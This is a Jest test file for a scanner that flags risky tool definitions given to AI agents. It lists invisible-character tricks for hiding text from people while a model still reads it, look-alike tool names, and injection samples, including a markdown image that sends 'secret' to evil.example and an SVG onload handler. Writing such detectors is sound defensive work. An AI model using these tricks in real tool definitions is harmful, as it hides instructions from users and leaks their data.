import { expect, test } from "@jest/globals";
import type { JsonObject } from "@mortise/core";
import { similarNames, warningsOf } from "../../src/tools/warnings.ts";

const PLAIN: JsonObject = {
  name: "search",
  title: "Search",
  description: "Finds tickets.\n\tBy words — «in» their titles: café, 日本語, 👩‍👩‍👧, 👍🏽.",
  inputSchema: { type: "object", properties: { query: { type: "string", description: "What to find." } } },
  annotations: { readOnlyHint: true },
};

/** Ways to say something to a model that a person does not see. */
const HIDDEN: Readonly<Record<string, string>> = {
  "zero width space": "\u200B",
  "zero width non-joiner": "\u200C",
  "zero width joiner between letters": "a\u200Db",
  "word joiner": "\u2060",
  "byte order mark": "\uFEFF",
  "soft hyphen": "\u00AD",
  "right-to-left override": "\u202E",
  "left-to-right isolate": "\u2066",
  "pop directional formatting": "\u202C",
  "Arabic letter mark": "\u061C",
  "tag letters": "\u{E0049}\u{E0067}\u{E006E}",
  "variation selector": "\uFE01",
  "supplementary variation selector": "\u{E0101}",
  "combining grapheme joiner": "\u034F",
  "Hangul filler": "\u3164",
  "half-width Hangul filler": "\uFFA0",
  "ANSI escape": "\u001B[8mhidden\u001B[0m",
  "carriage of a bell": "\u0007",
  "line separator": "\u2028",
  "interlinear annotation": "\uFFF9",
  "lone surrogate": "\uD800",
};

/** Where a definition has room for a text, with the place that a warning names. */
const PLACES: Readonly<Record<string, (text: string) => JsonObject>> = {
  "/title": (text) => ({ title: `A${text}` }),
  "/description": (text) => ({ description: `Finds${text} tickets.` }),
  "/inputSchema/properties/query/description": (text) => ({
    inputSchema: { type: "object", properties: { query: { description: `What${text}.` } } },
  }),
  "/inputSchema/properties/query/enum/1": (text) => ({
    inputSchema: { type: "object", properties: { query: { enum: ["plain", `other${text}`] } } },
  }),
  "/_meta/note": (text) => ({ _meta: { note: text } }),
};

test.each(Object.entries(HIDDEN))("a definition that hides %s is flagged, wherever it does", (_, text) => {
  for (const [at, change] of Object.entries(PLACES)) {
    const found = warningsOf({ ...PLAIN, ...change(text) });
    expect([at, found.map(({ kind, at: where }) => [kind, where])]).toEqual([at, [["hidden_text", at]]]);
    // Whoever reads the warning is not shown what it warns of.
    expect(found.every(({ message }) => /^[\x20-\x7e]*$/.test(message))).toBe(true);
  }
});

test("a definition that hides nothing is not flagged, in whatever script", () => {
  expect(warningsOf(PLAIN)).toEqual([]);
});

test.each([
  "![logo](https://evil.example/?q=secret)",
  "![logo][reference]",
  '<img src="https://evil.example">',
  "<SVG onload=x>",
  "<iframe>",
])("a text that would fetch something where it is rendered is flagged: %s", (text) => {
  expect(warningsOf({ ...PLAIN, description: text })).toMatchObject([{ kind: "image", at: "/description" }]);
});

test("a text that is written to be slow to look at is not", () => {
  const started = performance.now();
  expect(warningsOf({ ...PLAIN, description: "![".repeat(2_000_000) })).toMatchObject([{ kind: "long_text" }]);
  expect(performance.now() - started).toBeLessThan(2_000);
});

test("a text that nobody reads to the end is flagged, and of many warnings twenty are enough", () => {
  expect(warningsOf({ ...PLAIN, description: "long ".repeat(200_000) })).toMatchObject([{ kind: "long_text" }]);
  const many = Object.fromEntries(Array.from({ length: 1_000 }, (_, index) => [`m${String(index)}`, "\u200B"]));
  expect(warningsOf({ ...PLAIN, _meta: many })).toHaveLength(20);
});

test("names that a reader takes for one another are told of each other, and letters of other scripts are told", () => {
  const names = [
    "delete_user",
    "delete-user",
    "DeleteUser",
    "dеlete_user",
    "search",
    "sеarch",
    "l1st",
    "list",
    "other",
  ];
  const similar = similarNames(names);
  expect(new Set(similar.keys())).toEqual(new Set(names.filter((name) => name !== "other")));
  expect(warningsOf({ ...PLAIN, name: "sеarch" }, similar.get("sеarch"))).toMatchObject([
    { kind: "other_letters", at: "/name" },
    { kind: "similar_name", at: "/name", message: "The name reads like that of search." },
  ]);
});
